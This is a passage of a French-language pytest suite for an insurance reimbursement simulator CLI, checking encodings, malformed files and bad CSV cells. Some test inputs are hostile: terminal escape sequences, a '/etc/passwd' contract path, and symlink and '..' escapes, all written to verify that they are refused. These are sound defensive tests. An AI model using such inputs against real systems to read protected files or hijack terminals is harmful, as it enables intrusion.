                               "  indice : un nombre de mois de 1 à 120, ex. 6 (sans délai de stage, retirez la section)\n")


@pytest.mark.parametrize("nom", ["x" * 251, "x" * 251 + ".yaml", "dossier/" + "y" * 300 + ".yaml"])
def test_nom_de_contrat_trop_long(nom):
    court = nom[:80] + "…"
    r = lancer(["simuler", nom, "-f", "x", "-n", "biologie", "--frais-reels", "1"])
    assert r.exit_code == 2
    assert r.stderr in (f"erreur : contrat « {court} » illisible (nom trop long)\n",
                        f"erreur : fichier de contrat introuvable : {court}\n")
    r = lancer(["valider", nom])
    assert r.exit_code == 2 and len(r.stdout.splitlines()[0]) < 400


def test_sequences_de_controle_jamais_renvoyees(tmp_path):
    """Terminal control sequences given anywhere (an option, a cell, a contract's text) come back as
    `\ufffd`, never raw: a message cannot repaint the user's terminal."""
    esc = "\x1b[2J\x1b]0;titre\x07"
    for args in (["simuler", "cabinets-dentaires", "-f", esc, "-n", "biologie", "--br", "1", "--frais-reels", "1"],
                 ["simuler", esc, "-f", "x", "-n", "biologie", "--frais-reels", "1"],
                 ["simuler", "x", "-f", "x", "-n", "biologie", "--frais-reels", "1", esc],
                 ["comparer", "--formules", f"cabinets-dentaires:{esc}", "-n", "biologie", "--br", "1", "--frais-reels", "1"],
                 ["exemples", "cabinets-dentaires", "--ids", esc], ["lot", esc]):
        r = lancer(args)
        assert r.exit_code == 2 and not CONTROLE.search(r.stderr), (args, r.stderr)
        assert "\ufffd" in r.stderr or "\\x1b" in r.stderr, r.stderr      # replaced, or written as text by the parser
    f = tmp_path / "c.yaml"
    f.write_text(TEMOIN.read_text(encoding="utf-8").replace("id: temoin-valide", 'id: "\\e[31mrouge"'), encoding="utf-8")
    r = lancer(["valider", f])
    assert r.exit_code == 1 and "\x1b" not in r.stdout
    assert r.stdout.startswith(f"{f}:6:7: erreur : caractère de contrôle U+001B dans le texte (clé contrat.id)\n")
    texte = f"beneficiaire,date,nature,br,frais_reels,contrat\na,2025-01-10,biologie,10,10,{esc}\n"
    r = lancer(["lot", "-", "-f", "base", "-s"], entree=texte)
    _entete, lignes = _sortie_csv(r.stdout, ",")        # the row is echoed as written (data); its message is clean
    assert r.exit_code == 1 and lignes[0][-2].startswith("ligne 2 : contrat inconnu « \ufffd[2J\ufffd]0;titre\ufffd »")


def test_cellule_d_un_megaoctet(tmp_path):
    """A megabyte cell is refused on its row with an echo of 60 characters; a quoted cell over the limit
    (1 000 000 characters) stops the file naming its line."""
    texte = f"beneficiaire,date,nature,br,frais_reels\na,2025-01-10,biologie,10,{'9' * 900_000}\nb,2025-01-10,biologie,10,10\n"
    r = lancer(["lot", "-", "-c", "cabinets-dentaires", "-f", "base", "-s"], entree=texte)
    _entete, lignes = _sortie_csv(r.stdout, ",")
    assert r.exit_code == 1 and lignes[0][-2] == ("ligne 2 : frais réels : « " + "9" * 60 + "… » n'est pas un montant (exemples "
                                                  "valides : 31.50, 31,50, 31,50 €, 1 234,56)")
    texte = f'beneficiaire,date,nature,br,frais_reels\na,2025-01-10,biologie,10,10\nb,2025-01-10,biologie,10,"{"9" * 1_000_001}"\n'
    r = lancer(["lot", "-", "-c", "cabinets-dentaires", "-f", "base"], entree=texte)
    assert r.exit_code == 2
    assert r.stderr == ("erreur : - : ligne 3 illisible en CSV (cellule de plus de 1 000 000 caractères) ; indice : une cellule "
                        "fait au plus 1 000 000 caractères ; vérifiez les guillemets de cette ligne (un guillemet ouvert et "
                        "jamais fermé fait une cellule sans fin)\n")


@pytest.mark.parametrize("commande", ["lot", "verifier", "comparer"])
def test_cellule_au_dela_de_la_limite_sans_guillemets(tmp_path, commande):
    """The limit is 1 000 000 characters for any cell (csv's own 131 072 is raised to it): a header cell of
    300 000 characters is read (an unknown column, echoed); one over 1 000 000 stops the file, exit 2, naming
    line 1 — never « erreur interne ». A data cell over the limit without quotes is its row's error (naming
    the column), the other rows computed: option 2, consultation de spécialiste DPTM BR 31,50 / FR 80 → SS
    70 % × 31,50 − 2 = 20,05 €, reste à charge 3,25 € (docs/calcul.md, exemple du README)."""
    def fichier(nom, entete_en_plus, ben):
        f = tmp_path / nom
        colonnes = ["beneficiaire", "date", "nature", "br", "frais_reels", "dptm"] + (["ss_verse", "complementaire_verse"]
                                                                                    if commande == "verifier" else [])
        fin = ",20.05,56.70" if commande == "verifier" else ""
        f.write_text(",".join(colonnes) + entete_en_plus + "\n" + f"{ben},2025-06-01,consultation-specialiste,31.50,80,oui{fin}"
                     + ("," if entete_en_plus else "") + f"\na,2025-06-01,consultation-specialiste,31.50,80,oui{fin}"
                     + ("," if entete_en_plus else "") + "\n", encoding="utf-8")
        return f
    args = {"lot": ["-c", "cabinets-dentaires", "-f", "option-2", "--moteur", "ligne", "--format", "json", "-s"],
            "verifier": ["-c", "cabinets-dentaires", "-f", "option-2", "--format", "json", "-s"]}.get(commande)
    avant = ["comparer", "cabinets-dentaires", "--formules", "option-2", "--format", "json", "--actes"] if commande == "comparer" \
        else [commande]
    f = fichier("grand-entete.csv", "," + "h" * 1_000_001, "b")
    r = lancer(avant + [f] + (args or []))
    assert r.exit_code == 2 and r.stderr == (f"erreur : {f} : ligne 1 (l'en-tête) illisible en CSV (cellule de plus de 1 000 000 "
                                             "caractères) ; indice : la première ligne nomme les colonnes (beneficiaire, nature, "
                                             "date, frais_reels), séparées par , ou ;\n"), r.stderr
    f = fichier("long.csv", "," + "h" * 300_000, "b" * 1_000_001)
    r = lancer(avant + [f] + (args or []))
    assert r.exit_code == 1, r.stderr
    message = "ligne 2 : cellule de la colonne beneficiaire trop longue (1 000 001 caractères ; 1 000 000 au plus)"
    d = json.loads(r.stdout)
    if commande == "comparer":
        assert d[0]["erreurs"] == [{"ligne": 2, "erreur": message.removeprefix("ligne 2 : ")}]
        assert (d[0]["actes"], d[0]["securite_sociale"], d[0]["reste_a_charge"]) == (1, "20.05", "3.25")
    else:
        assert [x["erreur"] for x in d] == [message, None] and d[1]["securite_sociale"] == "20.05"
        assert d[1]["reste_a_charge"] == "3.25"


# ------------------------------------------------------------------ files: every kind read, or refused with the exact hint

LIGNES_U8 = "beneficiaire,date,nature,br,frais_reels\nzoé,2025-01-10,biologie,10,10\n"


@pytest.mark.parametrize("donnees", [
    LIGNES_U8.encode("utf-8"), b"\xef\xbb\xbf" + LIGNES_U8.encode("utf-8"), LIGNES_U8.encode("utf-16"),
    b"\xff\xfe" + LIGNES_U8.encode("utf-16-le"), b"\xfe\xff" + LIGNES_U8.encode("utf-16-be"), LIGNES_U8.encode("cp1252"),
    LIGNES_U8.replace("\n", "\r\n").encode("utf-8"), LIGNES_U8.replace("\n", "\r").encode("cp1252"),
], ids=["utf-8", "utf-8-bom", "utf-16", "utf-16-le-bom", "utf-16-be-bom", "cp1252", "crlf", "cr-cp1252"])
def test_encodages_lus(tmp_path, donnees):
    """UTF-8 ± BOM, UTF-16 with BOM, Windows-1252, any line end: read, the accent kept. Biologie BR = FR = 10
    (cabinets-dentaires base, 100 % BR): SS 60 % × 10 = 6 − PF 2 = 4 ; base 10 − 6 = 4 ; reste à charge 2 (the PF).
    The output is UTF-8, with a BOM when the input was not plain UTF-8 (the spreadsheet reads it back)."""
    f = tmp_path / "actes.csv"
    f.write_bytes(donnees)
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "base", "-o", tmp_path / "s.csv"])
    assert r.exit_code == 0, r.stderr
    sortie = (tmp_path / "s.csv").read_bytes()
    bom = not (donnees.startswith(b"bene") and b"\xe9" not in donnees)
    assert sortie.startswith(b"\xef\xbb\xbf") == bom
    _entete, lignes = _sortie_csv(sortie.decode("utf-8-sig"), ",")
    assert [(l[0], l[5], l[7], l[10]) for l in lignes] == [("zoé", "4.00", "4.00", "2.00")]
    lu = "UTF-16" if donnees.startswith((b"\xff\xfe", b"\xfe\xff")) else "WINDOWS-1252" if b"zo\xe9" in donnees else None
    assert (f"fichier lu en {lu} ; sortie en UTF-8 avec BOM" in r.stderr) if lu else ("fichier lu en" not in r.stderr)


@pytest.mark.parametrize("donnees, message", [
    (LIGNES_U8.encode("utf-16-le"), "texte UTF-16 sans marque d'ordre des octets (BOM) ; indice : enregistrez le fichier en « CSV UTF-8 » "
                                   "(ou en UTF-16 avec BOM)"),
    (bytes(range(256)), "fichier binaire (octets nuls) ; indice : donnez un fichier CSV (texte)"),
    (b"\xef\xbb\xbf\x00\x01\x02", "fichier binaire (octets nuls) ; indice : donnez un fichier CSV (texte)"),
    (LIGNES_U8.encode("utf-8") + "léa,2025-01-10,biologie,10,10\n".encode("cp1252"),
     "encodages mélangés : la ligne 2 est en UTF-8, la ligne 3 ne l'est pas (Windows-1252 ?) ; indice : enregistrez tout le fichier "
     "en « CSV UTF-8 »"),
    (b"beneficiaire,date,nature,br,frais_reels\nx,\x81\x8d,biologie,1,1\n", "encodage inconnu (ni UTF-8, ni UTF-16, ni Windows-1252) ; "
                                                                          "indice : enregistrez le fichier en « CSV UTF-8 »"),
    (b"", "fichier vide ; indice : la première ligne nomme les colonnes (beneficiaire, nature, date, frais_reels), séparées par , ou ;"),
    (b'beneficiaire,date,nature,br,frais_reels\na,2025-01-10,biologie,10,"10\nb,2025-01-10,biologie,10,10\n',
     "ligne 2 : guillemet ouvert et jamais fermé (la cellule continue sur les lignes suivantes, ou jusqu'à la fin du fichier) ; "
     "indice : fermez le guillemet, ou retirez-le si la cellule n'en a pas besoin"),
    (b'beneficiaire,date,nature,br,frais_reels\na,2025-01-10,biologie,10,10\nb,"2025-01-10,biologie,10,10',
     "ligne 3 : guillemet ouvert et jamais fermé (la cellule continue sur les lignes suivantes, ou jusqu'à la fin du fichier) ; "
     "indice : fermez le guillemet, ou retirez-le si la cellule n'en a pas besoin"),
], ids=["utf-16-sans-bom", "binaire", "bom-puis-binaire", "encodages-melanges", "encodage-inconnu", "vide", "guillemet-ouvert",
        "guillemet-fin-de-fichier"])
def test_fichiers_refuses_avec_l_indice(tmp_path, donnees, message):
    f = tmp_path / "actes.csv"
    f.write_bytes(donnees)
    sortie = tmp_path / "s.csv"
    for args in (["lot", f, "-c", "cabinets-dentaires", "-f", "base", "-o", sortie],
                 ["comparer", "cabinets-dentaires", "--actes", f]):
        r = lancer(args)
        assert r.exit_code == 2 and r.stderr == f"erreur : {f} : {message}\n", r.stderr
    assert not sortie.exists()
    with pytest.raises(LotInvalide, match=re.escape(message.split(" ; ")[0])):
        list(lire_actes(f))


def _zip(noms) -> bytes:
    import zipfile
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for n in noms:
            z.writestr(n, "x")
    return b.getvalue()


INDICE_CLASSEUR = "indice : ouvrez-le dans un tableur et enregistrez-le en .xlsx, ou en « CSV UTF-8 »"
INDICE_UTF32 = ("texte en UTF-32, un encodage non pris en charge (UTF-8, UTF-16 avec BOM ou Windows-1252) ; indice : enregistrez "
                "le fichier en « CSV UTF-8 »")


@pytest.mark.parametrize("nom, donnees, message", [
    ("faux.parquet", b"bonjour\n", "pas un fichier Parquet (il ne commence ni ne finit par la signature PAR1) ; indice : donnez un "
                                   "fichier .parquet complet, ou un CSV"),
    ("csv.parquet", LIGNES_U8.encode("utf-8"), "texte (un CSV ?), pas un fichier Parquet ; indice : nommez-le .csv"),
    ("coupe.parquet", b"PAR1" + b"\x00" * 40, "fichier Parquet incomplet (sa fin manque : une copie ou un téléchargement "
                                              "interrompu ?) ; indice : donnez un fichier .parquet complet, ou un CSV"),
    ("classeur.parquet", _zip(["xl/workbook.xml"]), "classeur (.xlsx ou .xls), pas un fichier Parquet ; indice : nommez-le .xlsx"),
    ("archive.xlsx", _zip(["a.txt"]), "ce n'est pas un classeur .xlsx : c'est une archive .zip (aucune feuille Excel dedans) ; "
                                      + INDICE_CLASSEUR),
    ("calc.xlsx", _zip(["mimetype", "content.xml"]), "ce n'est pas un classeur .xlsx : c'est un document OpenDocument (.ods, .odt) "
                                                     "(aucune feuille Excel dedans) ; " + INDICE_CLASSEUR),
    ("vieux.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
     "classeur Excel 97-2003 (.xls) ou classeur protégé par un mot de passe : non lu ; indice : ouvrez-le dans un tableur et "
     "enregistrez-le en .xlsx (sans mot de passe) ou en « CSV UTF-8 »"),
    ("u32.csv", LIGNES_U8.encode("utf-32"), INDICE_UTF32),
    ("u32le.csv", LIGNES_U8.encode("utf-32-le"), INDICE_UTF32),
    ("u32be.csv", LIGNES_U8.encode("utf-32-be"), INDICE_UTF32),
], ids=["faux-parquet", "csv-en-parquet", "parquet-coupe", "classeur-en-parquet", "zip-en-xlsx", "ods-en-xlsx", "xls-en-xlsx",
        "utf-32", "utf-32-le", "utf-32-be"])
def test_fichier_qui_n_est_pas_ce_que_dit_son_nom(tmp_path, nom, donnees, message):
    """A file named .parquet that is not Parquet, a zip or an .ods named .xlsx, an .xls, UTF-32 text: a French
    message saying what the file is not (or is) and what to do, exit 2 — never the library's English
    (« parquet: File out of specification… », « classeur illisible (KeyError) ») nor garbage column names."""
    if nom.endswith(".xlsx"):
        pytest.importorskip("openpyxl")
    if nom.endswith(".parquet"):
        pytest.importorskip("polars")
    f = tmp_path / nom
    f.write_bytes(donnees)
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "base", "-o", tmp_path / "s.csv"])
    assert r.exit_code == 2 and r.stderr == f"erreur : {f} : {message}\n", r.stderr
    assert not (tmp_path / "s.csv").exists()
    if nom.endswith(".csv"):
        r = lancer(["comparer", "cabinets-dentaires", "--actes", f])
        assert r.exit_code == 2 and r.stderr == f"erreur : {f} : {message}\n"


@pytest.mark.parametrize("texte, message", [
    ("contrat:\n\tid: x\n", "tabulation dans l'indentation"),
    ("a: " + "[" * 2000 + "]" * 2000 + "\n", "imbrication trop profonde (listes ou blocs imbriqués sur des centaines de niveaux)"),
    ("a: b\n---\nc: d\n", "un seul document attendu, or le fichier en contient plusieurs (« --- »)"),
    ("%YAML 1.1\n%YAML 1.1\n---\na: 1\n", "directive %YAML en double"),
    ("a: !<x y\n", "balise « !<… » non fermée"),
], ids=["tabulation", "imbrication", "deux-documents", "directive-double", "balise"])
def test_syntaxe_yaml_en_francais(tmp_path, texte, message):
    """libyaml's English never reaches the user: its messages are said in French (an unknown one is « erreur de
    syntaxe »), with the line and column."""
    f = tmp_path / "contrat.yaml"
    f.write_text(texte, encoding="utf-8")
    r = lancer(["valider", f])
    assert r.exit_code == 2 and f"erreur : syntaxe YAML invalide : {message}\n" in r.stdout, r.stdout
    assert not re.search(r"found |exceeded|expected |did not|but found|while scanning", r.stdout)


@pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="/dev/zero absent (pas Linux)")
def test_peripheriques_sans_fin_jamais_lus_en_entier():
    """`/dev/zero` and `/dev/urandom` as batch, basket, contract or examples: refused at once (binary,
    too large, not a file) — never read until the memory runs out."""
    debut = time.monotonic()
    for args, code in ((["lot", "/dev/zero", "-c", "cabinets-dentaires", "-f", "base"], 2),
                       (["comparer", "cabinets-dentaires", "--actes", "/dev/urandom"], 2),
                       (["simuler", "/dev/zero", "-f", "x", "-n", "biologie", "--frais-reels", "1"], 2),
                       (["valider", "/dev/zero"], 2), (["exemples", "cabinets-dentaires", "--fichier", "/dev/zero"], 2)):
        r = lancer(args)
        assert r.exit_code == code and ("erreur" in r.stderr or "illisible" in r.stdout), (args, r.stderr, r.stdout)
    assert time.monotonic() - debut < 30


def _tube(tmp_path, nom: str, donnees: bytes) -> Path:
    """A named pipe that gives `donnees` once (a writer thread), like `<(cat fichier)`: a second opening
    would find no writer and read nothing (or block) — the fault this guards against."""
    import threading
    f = tmp_path / nom
    os.mkfifo(f)

    def ecrire():
        with open(f, "wb") as w:
            w.write(donnees)
    threading.Thread(target=ecrire, daemon=True).start()
    return f


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pas de tubes nommés")
@pytest.mark.parametrize("moteur", ["auto", "ligne", "colonnes"])
def test_tube_nomme_lu_une_seule_fois_lot(tmp_path, moteur):
    """`lot <(cat famille-2025.csv)`: the pipe is read once, into memory, and computed as the file itself
    (the same output, byte for byte); before, a first look at its 4 first bytes left the reader an empty file."""
    attendu = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "-s"])
    tube = _tube(tmp_path, "actes.csv", FAMILLE.read_bytes())
    r = lancer(["lot", tube, "-c", "cabinets-dentaires", "-f", "option-2", "-s", "--moteur", moteur])
    assert r.exit_code == attendu.exit_code == 0, r.stderr
    assert r.stdout == attendu.stdout and r.stdout.count("\n") == FAMILLE.read_text(encoding="utf-8").count("\n")
    tube = _tube(tmp_path, "portefeuille.parquet", b"PAR1")
    r = lancer(["lot", tube, "-c", "cabinets-dentaires", "-f", "option-2"])
    assert r.exit_code == 2 and "un fichier Parquet se lit par accès direct, pas dans un tube" in r.stderr


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pas de tubes nommés")
def test_tube_nomme_lu_une_seule_fois_verifier_simuler_valider(tmp_path):
    """`verifier`, `comparer --actes`, `simuler` and `valider` given a pipe: read once, the same answers as the
    file. Option 2, consultation de spécialiste DPTM BR 31,50 / FR 80: SS 70 % × 31,50 − 2 = 20,05 €."""
    releves = RACINE / "exemples" / "releves-famille-2025.csv"
    args = ["-c", "cabinets-dentaires", "-f", "option-2", "-s", "--format", "csv"]
    attendu = lancer(["verifier", releves] + args)
    r = lancer(["verifier", _tube(tmp_path, "releves.csv", releves.read_bytes())] + args)
    assert (r.exit_code, r.stdout) == (attendu.exit_code, attendu.stdout) and r.stdout.count("\n") > 5
    attendu = lancer(["comparer", "cabinets-dentaires", "--actes", FAMILLE, "--format", "csv"])
    r = lancer(["comparer", "cabinets-dentaires", "--actes", _tube(tmp_path, "panier.csv", FAMILLE.read_bytes()), "--format", "csv"])
    assert (r.exit_code, r.stdout) == (attendu.exit_code, attendu.stdout)
    contrat = (RACINE / "contrats" / "cabinets-dentaires.yaml").read_bytes()
    r = lancer(["simuler", _tube(tmp_path, "contrat", contrat), "-f", "option-2", "-n", "consultation-specialiste", "--br", "31,50",
                "--frais-reels", "80", "--dptm", "--date", "2025-06-01", "--format", "json"])
    assert r.exit_code == 0, r.stderr
    assert json.loads(r.stdout)["securite_sociale"] == "20.05"
    r = lancer(["valider", _tube(tmp_path, "contrat-2", contrat), "--format", "json"])
    assert r.exit_code == 0 and json.loads(r.stdout)["fichiers"][0]["contrat"] == "cabinets-dentaires"
    r = lancer(["simuler", tmp_path, "-f", "x", "-n", "biologie", "--frais-reels", "1"])
    assert r.exit_code == 2 and r.stderr == f"erreur : {tmp_path} : c'est un dossier, pas un fichier de contrat (.yaml)\n"


def test_dossier_et_fichier_introuvable(tmp_path):
    r = lancer(["lot", tmp_path, "-c", "cabinets-dentaires", "-f", "base"])
    assert r.exit_code == 2 and r.stderr == f"erreur : {tmp_path} : c'est un dossier, pas un fichier de données\n"
    r = lancer(["lot", tmp_path / "absent.csv", "-c", "cabinets-dentaires", "-f", "base"])
    assert r.exit_code == 2 and r.stderr.startswith(f"erreur : {tmp_path / 'absent.csv'} : fichier introuvable")
    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "base", "-o", tmp_path])
    assert r.exit_code == 2 and r.stderr == f"erreur : {tmp_path} : c'est un dossier ; donnez un nom de fichier\n"
    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "base", "-o", tmp_path / "absent" / "s.csv"])
    assert r.exit_code == 2 and r.stderr == f"erreur : {tmp_path / 'absent' / 's.csv'} : le dossier {tmp_path / 'absent'} n'existe pas\n"
    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "base", "-o", tmp_path / ("x" * 300)])
    assert r.exit_code == 2 and "nom trop long" in r.stderr


@pytest.mark.skipif(os.geteuid() == 0, reason="root écrit partout : le refus des droits ne se voit pas")
def test_dossier_de_sortie_non_inscriptible_refuse_avant_calcul(tmp_path):
    d = tmp_path / "lecture-seule"
    d.mkdir(mode=0o500)
    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "base", "-o", d / "s.csv"])
    assert r.exit_code == 2 and "impossible d'écrire dans le dossier" in r.stderr


def test_dossier_de_sortie_non_inscriptible_refuse_avant_calcul_simule(tmp_path, monkeypatch):
    """The writability check runs before any computation (os.access simulated: the tests may run as root)."""
    import simulateur.lot.commande as commande
    appels = []
    monkeypatch.setattr(commande, "executer_lot", lambda *a, **k: appels.append(1))
    monkeypatch.setattr(os, "access", lambda *a, **k: False)
    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "base", "-o", tmp_path / "s.csv"])
    assert r.exit_code == 2 and r.stderr == f"erreur : {tmp_path / 's.csv'} : impossible d'écrire dans le dossier {tmp_path} (droits)\n"
    assert not appels


# ------------------------------------------------------------------ batches: every bad cell is an error on its row

CELLULES_FAUSSES = [   # (column, cell, the row's message after « ligne N : »)
    ("frais_reels", "999999999999999999999999999", "frais réels : « 999999999999999999999999999 » est trop grand (100 000 000 € au plus)"),
    ("frais_reels", "٣٠", "frais réels : « ٣٠ » n'est pas un montant (exemples valides : 31.50, 31,50, 31,50 €, 1 234,56)"),
    ("frais_reels", "", "frais réels absents : renseignez la colonne frais_reels (ce que le patient a payé)"),
    ("br", "-3", "base de remboursement : -3 est négatif ; un montant est toujours positif ou nul"),
    ("date", "9999-12-31", "date des soins 9999-12-31 hors des dates possibles (1900-01-01 à 2100-12-31)"),
    ("date", "", "date des soins absente : renseignez la colonne date"),
    ("nature", "biologi", "nature inconnue : « biologi » ; vouliez-vous dire « biologie » ou « implantologie » ? (la liste : "
                          "simulateur natures)"),
    ("nature", "\x1b[2J", "nature inconnue : « \ufffd[2J » (la liste : simulateur natures)"),
    ("beneficiaire", "\u200b", "bénéficiaire absent : renseignez la colonne beneficiaire"),
    ("quantite", "0", "quantité 0 invalide : entre 1 et 10000"),
    ("quantite", "٣", "quantité « ٣ » : écrivez un nombre entier"),
    ("age", "1e3", "âge « 1e3 » : écrivez un nombre entier"),
    ("dptm", "peut-être", "statut DPTM « peut-être » : écrivez oui ou non"),
    ("panier", "200 % Santé", "panier « 200 % Santé » inconnu : 100-sante, maitrise ou libre"),
    ("verres", "simple+simple+simple", "verres « simple+simple+simple » : donnez les classes des deux verres, ex. simple+complexe "
                                       "(classes : simple, complexe, tres-complexe)"),
    ("dent", "99", "dent « 99 » : un numéro FDI à deux chiffres (11 à 18, 21 à 28, 31 à 38, 41 à 48 ; dents de lait 51 à 55 … 81 à 85)"),
    ("taux", "150", "taux « 150 » invalide : un pourcentage entre 0 et 100"),
    ("formule", "option-9", "formule inconnue « option-9 » pour le contrat cabinets-dentaires ; vouliez-vous dire « option-3 » ou "
                            "« option-2 » ou « option-1 » ? (formules : base, option-1, option-2, option-3)"),
    ("contrat", "/etc/passwd", "contrat « /etc/passwd » : une ligne ne peut nommer qu'un contrat livré (carcept-evolution-sante, "
                               "cabinets-dentaires, production-agricole), celui de --contrat, ou un fichier d'un dossier donné par "
                               "--contrats-dossier"),
]
COLONNES_LOT = ["beneficiaire", "date", "nature", "br", "frais_reels", "quantite", "age", "dptm", "panier", "verres", "dent", "taux",
                "contrat", "formule"]
BONNE = {"beneficiaire": "paul", "date": "2025-01-10", "nature": "biologie", "br": "10", "frais_reels": "10", "quantite": "1",
         "age": "40", "dptm": "", "panier": "", "verres": "", "dent": "", "taux": "", "contrat": "", "formule": ""}


def _fichier_cellules_fausses(tmp_path) -> Path:
    f = io.StringIO()
    w = csv.writer(f, lineterminator="\n")
    w.writerow(COLONNES_LOT)
    for colonne, cellule, _ in CELLULES_FAUSSES:
        w.writerow([BONNE[c] for c in COLONNES_LOT])
        w.writerow([cellule if c == colonne else BONNE[c] for c in COLONNES_LOT])
    chemin = tmp_path / "cellules.csv"
    chemin.write_text(f.getvalue(), encoding="utf-8")
    return chemin


def _message_attendu(i, message):
    return f"ligne {2 * i + 3} : {message}".replace("(carcept-evolution-sante, cabinets-dentaires, production-agricole)",
                                                   f"({', '.join(p.stem for p in contrats_livres())})")


def test_chaque_cellule_fausse_est_une_erreur_sur_sa_ligne(tmp_path):
    """`lot`: each bad cell is its row's error (exit 1), every good row around it is computed: biologie
    BR = FR = 10, base 100 % BR → SS 4 (60 % − PF 2), base 4, reste à charge 2 (the 50 € PF ceiling of
    the year is not reached: 2 € × 19 rows = 38 €)."""
    f = _fichier_cellules_fausses(tmp_path)
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "base", "-o", tmp_path / "s.csv"])
    assert r.exit_code == 1, r.stderr
    entete, lignes = _sortie_csv((tmp_path / "s.csv").read_text(encoding="utf-8"), ",")
    i_err, i_ss, i_rac = entete.index("erreur"), entete.index("securite_sociale"), entete.index("reste_a_charge")
    assert len(lignes) == 2 * len(CELLULES_FAUSSES)
    for i, (_col, _cel, message) in enumerate(CELLULES_FAUSSES):
        bonne, fausse = lignes[2 * i], lignes[2 * i + 1]
        assert (bonne[i_err], bonne[i_ss], bonne[i_rac]) == ("", "4.00", "2.00")
        assert fausse[i_err] == _message_attendu(i, message)
    assert f"{len(CELLULES_FAUSSES)} en erreur" in r.stderr


def test_cellules_fausses_simuler_lot_et_comparer_actes(tmp_path):
    """The same file through `simuler_lot` (Python) and `comparer --actes`: the same errors, on the same lines."""
    f = _fichier_cellules_fausses(tmp_path)
    resultats = list(simuler_lot(lire_actes(f), "cabinets-dentaires", "base"))
    assert [r.erreur for r in resultats[1::2]] == [_message_attendu(i, m) for i, (_c, _v, m) in enumerate(CELLULES_FAUSSES)]
    assert all(r.erreur is None and r.resultat.reste_a_charge == Decimal("2.00") for r in resultats[0::2])
    r = lancer(["comparer", "cabinets-dentaires", "--formules", "base,option-2", "--actes", f, "--format", "json"])
    assert r.exit_code == 1
    d = json.loads(r.stdout)
    sans_surcharge = [(i, m) for i, (c, _v, m) in enumerate(CELLULES_FAUSSES) if c not in ("contrat", "formule")]
    for formule in d:
        assert [(e["ligne"], e["erreur"]) for e in formule["erreurs"]] == [(2 * i + 3, m) for i, m in sans_surcharge]
        assert formule["actes"] == 2 * len(CELLULES_FAUSSES) - len(sans_surcharge)


# ------------------------------------------------------------------ per-row contracts: only what the command line allows

def _dossier_avec_un_lien_vers_dehors(tmp_path):
    """(DOSSIER with the témoin as maison.yaml and lien.yaml, a link to DEHORS; DEHORS, a contract outside)."""
    dedans = tmp_path / "contrats"
    dedans.mkdir()
    (dedans / "maison.yaml").write_text(TEMOIN.read_text(encoding="utf-8"), encoding="utf-8")
    dehors = tmp_path / "secret.yaml"
    dehors.write_text("contrat: {id: secret-defense}\n", encoding="utf-8")
    (dedans / "lien.yaml").symlink_to(dehors)
    return dedans, dehors


def test_contrat_par_ligne_seulement_livre_ou_dossier_donne(tmp_path):
    """A `contrat` cell names a shipped contract, the --contrat one, or a file under --contrats-dossier —
    never another path of the machine (a link inside the folder that leads outside is outside), and a
    refused file is never read (its content is never quoted)."""
    dedans, dehors = _dossier_avec_un_lien_vers_dehors(tmp_path)
    lignes = [f"a,2025-01-10,biologie,10,10,{c}," for c in ("cabinets-dentaires", str(dedans / "maison.yaml"), str(dehors),
                                                            str(dedans / "lien.yaml"), str(dedans / ".." / "secret.yaml"))]
    f = tmp_path / "actes.csv"
    f.write_text("beneficiaire,date,nature,br,frais_reels,contrat,formule\n" + "\n".join(lignes) + "\n", encoding="utf-8")
    r = lancer(["lot", f, "-f", "base", "--contrats-dossier", dedans, "--format", "json", "-s"])
    d = json.loads(r.stdout)
    assert r.exit_code == 1
    assert [x["erreur"] is None for x in d] == [True, True, False, False, False]
    for x in d[2:]:
        assert "une ligne ne peut nommer qu'un contrat livré" in x["erreur"] and "secret-defense" not in x["erreur"]
    # témoin, formula base, biologie BR = FR = 10: SS 4 (6 − PF 2), base 100 % BR → 4, reste à charge 2
    assert (d[1]["contrat"], d[1]["parts"][0]["montant"], d[1]["reste_a_charge"]) == ("temoin-valide", "4.00", "2.00")
    r = lancer(["lot", f, "-f", "base", "--format", "json", "-s"])          # without the folder: only the shipped one
    assert [x["erreur"] is None for x in json.loads(r.stdout)] == [True, False, False, False, False]


def test_contrats_dossier_nomme_par_son_identifiant(tmp_path, monkeypatch):
    """`--contrats-dossier DOSSIER`: a `contrat` cell `maison` (or `maison.yaml`) is `DOSSIER/maison.yaml`, whatever
    the current folder; a link `DOSSIER/lien.yaml` that leads outside stays refused and unread; a folder that
    does not exist, or a file given as folder, is exit 2 before anything. Témoin, formula base, biologie
    BR = FR = 10: SS 60 % × 10 − PF 2 = 4, base 100 % BR − SS brute 6 = 4, reste à charge 2."""
    dedans, dehors = _dossier_avec_un_lien_vers_dehors(tmp_path)
    f = tmp_path / "actes.csv"
    f.write_text("beneficiaire,date,nature,br,frais_reels,contrat\n" + "".join(f"a,2025-01-10,biologie,10,10,{c}\n" for c in
                                                                                  ("maison", "maison.yaml", "lien", "absent")),
                 encoding="utf-8")
    ailleurs = tmp_path / "ailleurs"
    ailleurs.mkdir()
    monkeypatch.chdir(ailleurs)
    for moteur in ("ligne", "colonnes"):
        r = lancer(["lot", f, "-f", "base", "--contrats-dossier", dedans, "--format", "csv", "--moteur", moteur, "-s"])
        _entete, lignes = _sortie_csv(r.stdout, ",")
        assert r.exit_code == 1
        assert [(l[0], l[6], l[8], l[11], l[12]) for l in lignes[:2]] == [("a", "4.00", "4.00", "2.00", "")] * 2
        assert "lien.yaml est un lien qui mène hors du dossier" in lignes[2][12] and "secret" not in lignes[2][12]
        assert lignes[3][12].startswith("ligne 5 : contrat inconnu « absent »")
    for dossier, quoi in ((tmp_path / "inexistant", "dossier introuvable"), (f, "n'est pas un dossier")):
        r = lancer(["lot", f, "-f", "base", "--contrats-dossier", dossier])
